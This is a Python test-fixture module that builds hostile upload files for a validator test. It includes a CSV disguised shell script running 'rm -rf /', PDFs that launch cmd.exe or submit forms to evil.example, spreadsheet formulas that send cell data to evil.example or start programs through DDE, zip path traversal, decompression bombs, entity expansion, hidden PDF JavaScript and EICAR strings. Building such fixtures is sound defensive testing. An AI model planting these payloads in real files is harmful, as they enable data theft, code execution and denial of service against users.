"""Files that somebody might send and that nobody may keep as clean, each built here: none lies in the repository.

`HOSTILE`: name -> (what it is called, how its bytes are made). What is refused, and as what, says the test.
"""

import zlib
from collections.abc import Callable
from io import BytesIO
from struct import pack
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

import xlsxwriter
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

MEGABYTE = 1024 * 1024
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
TYPES, BOOK, RELS = "[Content_Types].xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels"
OUTSIDE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"


# ---------------------------------------------------------------- files as people have them


def jpeg(width: int = 40, height: int = 30, **saved: Any) -> bytes:
    return _picture("JPEG", width, height, **saved)


def png(width: int = 40, height: int = 30, mode: str = "RGB") -> bytes:
    return _picture("PNG", width, height, mode)


def _picture(form: str, width: int, height: int, mode: str = "RGB", **saved: Any) -> bytes:
    written = BytesIO()
    picture = Image.new(mode, (width, height), 200 if mode == "L" else None)  # type: ignore[arg-type]
    picture.putpixel((width // 3, height // 3), 255 if mode == "L" else (9, 90, 200, 255)[: len(mode)])
    picture.save(written, form, **saved)
    return written.getvalue()


def pdf(change: Callable[[PdfWriter], object] | None = None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 300)
    if change:
        change(writer)
    written = BytesIO()
    writer.write(written)
    return written.getvalue()


def xlsx(rows: list[list[Any]] | None = None) -> bytes:
    written = BytesIO()
    with xlsxwriter.Workbook(written, {"in_memory": True}) as book:
        sheet = book.add_worksheet()
        for number, row in enumerate(rows or [["날짜", "매출"], ["2022-10-15", 120_000]]):
            sheet.write_row(number, 0, row)
    return written.getvalue()


def table(encoding: str = "utf-8") -> bytes:
    return "날짜,매출\n2022-10-15,120000\n2022-10-16,-500\n".encode(encoding)


# ---------------------------------------------------------------- what hides, acts or floods


def zipped(parts: dict[str, bytes], compressed: int = ZIP_DEFLATED) -> bytes:
    written = BytesIO()
    with ZipFile(written, "w", compressed) as archive:
        for name, content in parts.items():
            # As it is spelt: the library would mend a name that climbs.
            info = ZipInfo("x")
            info.filename, info.compress_type = name, compressed
            archive.writestr(info, content)
    return written.getvalue()


def book_with(more: dict[str, bytes], *, without: tuple[str, ...] = ()) -> bytes:
    """A workbook with these parts too, or in the place of its own."""
    with ZipFile(BytesIO(xlsx())) as archive:
        parts = {name: archive.read(name) for name in archive.namelist() if name not in without}
    return zipped(parts | more)


def header_of(kind: bytes, width: int, height: int) -> bytes:
    """A picture that says of itself to be so large, with hardly a byte of it."""
    if kind == b"png":
        size = b"IHDR" + pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
        data = b"IDAT" + zlib.compress(b"\0" * 1_000)
        chunks = [size, data, b"IEND"]
        return b"\x89PNG\r\n\x1a\n" + b"".join(
            pack(">I", len(one) - 4) + one + pack(">I", zlib.crc32(one)) for one in chunks
        )
    whole = bytearray(jpeg())
    place = whole.index(b"\xff\xc0") + 5
    whole[place : place + 4] = pack(">HH", height, width)
    return bytes(whole)


def text_bomb() -> bytes:
    """A PNG whose compressed remark unpacks to 100 MB."""
    whole = png()
    remark = b"zTXtremark\0\0" + zlib.compress(b"\0" * (100 * MEGABYTE), 9)
    chunk = pack(">I", len(remark) - 4) + remark + pack(">I", zlib.crc32(remark))
    return whole[:33] + chunk + whole[33:]


def acting(action: str, **more: str) -> Callable[[PdfWriter], object]:
    """A PDF that does this when it is opened."""

    def change(writer: PdfWriter) -> None:
        said = {NameObject(f"/{name}"): TextStringObject(text) for name, text in more.items()}
        done = DictionaryObject({NameObject("/S"): NameObject(action), **said})
        writer.root_object[NameObject("/OpenAction")] = writer._add_object(done)

    return change


def annotated(kind: str, **more: Any) -> Callable[[PdfWriter], object]:
    def change(writer: PdfWriter) -> None:
        note = DictionaryObject({NameObject("/Subtype"): NameObject(kind)})
        for name, value in more.items():
            note[NameObject(f"/{name}")] = value
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(note)])

    return change


def spelt_otherwise() -> bytes:
    """JavaScript, its name written with the number of a letter, in an object that no page leads to."""
    whole = pdf(
        lambda writer: writer._add_object(DictionaryObject({NameObject("/Q"): TextStringObject("x")}))
    )
    assert whole.count(b"/Q ") == 1
    return whole.replace(b"/Q ", b"/#4aS ")


def in_object_stream() -> bytes:
    """JavaScript in a compressed stream of objects, where no search of the bytes finds it."""
    catalog = b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>".ljust(60)
    pages = b"<</Type/Pages/Kids[3 0 R]/Count 1>>".ljust(60)
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>".ljust(60)
    action = b"<</S/JavaScript/JS(app.alert(1))>>"
    inner = b"1 0 2 60 3 120 4 180 "
    packed = zlib.compress(inner + catalog + pages + page + action)
    out = bytearray(b"%PDF-1.5\n")
    stream_at = len(out)
    out += b"5 0 obj<</Type/ObjStm/N 4/First %d/Filter/FlateDecode/Length %d>>stream\n" % (
        len(inner),
        len(packed),
    )
    out += packed + b"\nendstream endobj\n"
    table_at = len(out)
    rows = [(0, 0, 255), (2, 5, 0), (2, 5, 1), (2, 5, 2), (2, 5, 3), (1, stream_at, 0), (1, table_at, 0)]
    packed = zlib.compress(b"".join(pack(">BIB", *row) for row in rows))
    out += b"6 0 obj<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Filter/FlateDecode/Length %d>>stream\n" % len(
        packed
    )
    out += packed + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % table_at
    return bytes(out)


def loop() -> bytes:
    """A PDF whose tree of pages is its own child."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\n"
        b"trailer<</Root 1 0 R/Size 3>>\nstartxref\n0\n%%EOF\n"
    )


def locked(writer: PdfWriter) -> None:
    writer.encrypt("secret", algorithm="RC4-128")


def relation(mode: str) -> bytes:
    kept = f'<Relationship Id="r9" Type="{OUTSIDE}" Target="https://evil.example/x" {mode}/></Relationships>'
    with ZipFile(BytesIO(xlsx())) as archive:
        return archive.read(RELS).replace(b"</Relationships>", kept.encode())


def formula(text: str) -> bytes:
    space = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    sheet = b'<worksheet xmlns="' + space + b'"><sheetData><row r="1"><c r="A1">'
    return book_with(
        {"xl/worksheets/sheet1.xml": sheet + f"<f>{text}</f></c></row></sheetData></worksheet>".encode()}
    )


def _macros(content: bytes) -> bytes:
    with ZipFile(BytesIO(content)) as archive:
        types = archive.read(TYPES)
    return types.replace(b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml").replace(
        b"openxmlformats-officedocument.ms", b"ms"
    )


def overlapping() -> bytes:
    """A zip whose parts all lie in one place."""
    whole = bytearray(book_with({"xl/a.xml": b"<a/>" * 500, "xl/b.xml": b"<a/>" * 500}))
    entries, at = [], 0
    while (at := whole.find(b"PK\x01\x02", at)) >= 0:
        entries.append(at)
        at += 4
    whole[entries[-1] + 42 : entries[-1] + 46] = whole[entries[-2] + 42 : entries[-2] + 46]
    return bytes(whole)


LAUGHS = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'

HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "nothing at all": ("empty.pdf", lambda: b""),
    "blanks alone": ("blank.csv", lambda: b"  \n \n"),
    "too large": ("large.pdf", lambda: pdf() + b" " * (10 * MEGABYTE)),
    "a program": ("setup.exe", lambda: b"MZ\x90\0" + b"\0" * 500),
    "a program called a PDF": ("invoice.pdf", lambda: b"MZ\x90\0" + b"\0" * 500),
    "a program with two endings": ("invoice.pdf.exe", lambda: b"\x7fELF\2\1\1" + b"\0" * 99),
    "a shell script": ("receipt.csv", lambda: b"#!/bin/sh\nrm -rf /,x\n"),
    "a page called a picture": ("photo.png", lambda: b"<!doctype html><html><script>alert(1)</script>,</html>"),
    "a drawing called a picture": ("photo.png", lambda: SVG),
    "a drawing in a table": ("t.csv", lambda: b"a,b\n" + SVG + b",1\n"),
    "a table of entities": ("t.csv", lambda: b"a,b\n" + LAUGHS + b",1\n"),
    "a GIF": ("a.gif", lambda: _picture("GIF", 4, 4, "L")),
    "a WebP": ("a.webp", lambda: _picture("WEBP", 4, 4)),
    "a TIFF": ("a.jpg", lambda: _picture("TIFF", 4, 4)),
    "a picture of a phone": ("IMG_1.HEIC", lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 50),
    "a document of Hangul": ("서류.hwp", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    "rich text": ("a.rtf", lambda: b"{\\rtf1 hello, x}"),
    "a zip": ("papers.zip", lambda: zipped({"a.txt": b"a"})),
    "a RAR called a workbook": ("a.xlsx", lambda: b"Rar!\x1a\x07\0" + b"\0" * 40),
    "a document of Word": ("a.docx", lambda: zipped({TYPES: b"<Types/>", "word/document.xml": b"<w/>"})),
    # pictures
    "a JPEG cut off": ("a.jpg", lambda: jpeg(400, 300)[:700]),
    "a PNG cut off": ("a.png", lambda: png(400, 300)[:60]),
    "a JPEG of one sign": ("a.jpg", lambda: b"\xff\xd8\xff"),
    "a PNG flood of pixels": ("a.png", lambda: header_of(b"png", 50_000, 50_000)),
    "a JPEG flood of pixels": ("a.jpg", lambda: header_of(b"jpeg", 65_000, 65_000)),
    "a PNG with a bomb in a remark": ("a.png", text_bomb),
    "a zip behind a JPEG": ("a.jpg", lambda: jpeg() + zipped({"a.html": b"<script>"})),
    "a zip behind a PNG": ("a.png", lambda: png() + zipped({"a.html": b"<script>"})),
    "a PDF in a JPEG": ("a.jpg", lambda: jpeg(comment=b"%PDF-1.4 1 0 obj")),
    # PDF
    "a PDF without an end": ("a.pdf", lambda: pdf()[:-20]),
    "a PDF of nothing": ("a.pdf", lambda: b"%PDF-1.7\n%%EOF"),
    "a PDF behind a page": ("a.pdf", lambda: b"<html><script>alert(1)</script></html>\n" + pdf()),
    "a zip behind a PDF": ("a.pdf", lambda: pdf() + zipped({"a.html": b"<script>"})),
    "a page behind a PDF": ("a.pdf", lambda: pdf() + b"<html><script>alert(1)</script></html>"),
    "a PDF with a password": ("a.pdf", lambda: pdf(locked)),
    "a PDF with JavaScript": ("a.pdf", lambda: pdf(acting("/JavaScript", JS="app.alert(1);"))),
    "a PDF with JavaScript in a stream": ("a.pdf", in_object_stream),
    "a PDF with JavaScript spelt otherwise": ("a.pdf", spelt_otherwise),
    "a PDF that starts a program": ("a.pdf", lambda: pdf(acting("/Launch", F="cmd.exe"))),
    "a PDF that opens a page": ("a.pdf", lambda: pdf(acting("/URI", URI="https://evil.example/"))),
    "a PDF that opens a share": ("a.pdf", lambda: pdf(acting("/GoToR", F="\\\\evil.example\\x"))),
    "a PDF that sends a form": ("a.pdf", lambda: pdf(acting("/SubmitForm", F="https://evil.example/"))),
    "a PDF with a file in it": ("a.pdf", lambda: pdf(lambda writer: writer.add_attachment("a.exe", b"MZ"))),
    "a PDF with a film": ("a.pdf", lambda: pdf(annotated("/RichMedia"))),
    "a PDF that never ends": ("a.pdf", loop),
    # workbooks
    "a workbook with macros": ("a.xlsm", lambda: book_with({"xl/vbaProject.bin": b"\xd0\xcf", TYPES: _macros(xlsx())})),
    "a workbook said to have macros": ("a.xlsx", lambda: book_with({TYPES: _macros(xlsx())})),
    "a workbook with a link to another": ("a.xlsx", lambda: book_with({"xl/externalLinks/externalLink1.xml": b"<e/>"})),
    "a workbook that loads a picture": ("a.xlsx", lambda: book_with({RELS: relation('TargetMode="External"')})),
    "a workbook with a file in it": ("a.xlsx", lambda: book_with({"xl/embeddings/oleObject1.bin": b"MZ"})),
    "a workbook with a query": ("a.xlsx", lambda: book_with({"xl/connections.xml": b"<c/>"})),
    "a workbook of entities": ("a.xlsx", lambda: book_with({"xl/sharedStrings.xml": LAUGHS})),
    "a workbook of entities in UTF-16": (
        "a.xlsx", lambda: book_with({"xl/sharedStrings.xml": LAUGHS.decode().encode("utf-16")}),
    ),
    "a workbook that asks the web": ("a.xlsx", lambda: formula('WEBSERVICE("https://evil.example/"&amp;A2)')),
    "a workbook that starts a program": ("a.xlsx", lambda: formula("cmd|'/c calc'!A0")),
    "a workbook that climbs": ("a.xlsx", lambda: book_with({"../../etc/passwd.xml": b"<x/>"})),
    "a workbook with a name from the root": ("a.xlsx", lambda: book_with({"/etc/x.xml": b"<x/>"})),
    "a workbook with a name of Windows": ("a.xlsx", lambda: book_with({"..\\x.xml": b"<x/>"})),
    "a bomb": ("a.xlsx", lambda: book_with({"xl/a.xml": b"\0" * (40 * MEGABYTE)})),
    "a larger bomb": ("a.xlsx", lambda: book_with({f"xl/{n}.xml": b"<a/>" * 2_000_000 for n in range(8)})),
    "a workbook of too many parts": ("a.xlsx", lambda: book_with({f"xl/{n}.xml": b"" for n in range(1_100)})),
    "a workbook whose parts overlap": ("a.xlsx", overlapping),
    "a workbook without a book": ("a.xlsx", lambda: book_with({}, without=(BOOK,))),
    "a workbook cut off": ("a.xlsx", lambda: xlsx()[:-30]),
    "a workbook damaged": ("a.xlsx", lambda: xlsx().replace(b"PK\x01\x02", b"PK\x01\x03", 1)),
    # tables
    "a table with a program": ("a.csv", lambda: b"a,b\n=cmd|'/c calc'!A0,1\n"),
    "a table with a formula behind a sign": ("a.csv", lambda: b"a,b\n+SUM(1),1\n"),
    "a table with an address to load": ("a.csv", lambda: b'a,b\n"@IMPORT(""x"")",1\n'),
    "a table with a NUL": ("a.csv", lambda: b"a,b\n1,\x002\n"),
    "a table with a control": ("a.csv", lambda: b"a,b\n1,\x1b[2J\n"),
    "a table of one endless line": ("a.csv", lambda: b"a,b\n" + b"1," * 20_000 + b"\n"),
    "a table with a quotation that does not end": ("a.csv", lambda: b'a,b\n"1,2\n'),
    "prose": ("a.csv", lambda: "저는 그날 하루 종일 일을 못 했습니다.\n정말입니다.\n".encode()),
    "bytes of no text": ("a.csv", lambda: b"\xff\xfe\x80,\x81\n"),
}  # fmt: skip

# What passes the rules of content, and only a scanner can find.
INFECTED: dict[str, tuple[str, Callable[[], bytes]]] = {
    "the trial file in a table": ("a.csv", lambda: b"a,b\n1," + EICAR + b"\n"),
    "the trial file in a PDF": ("a.pdf", lambda: pdf().replace(b"startxref", b"% " + EICAR + b"\nstartxref")),
}
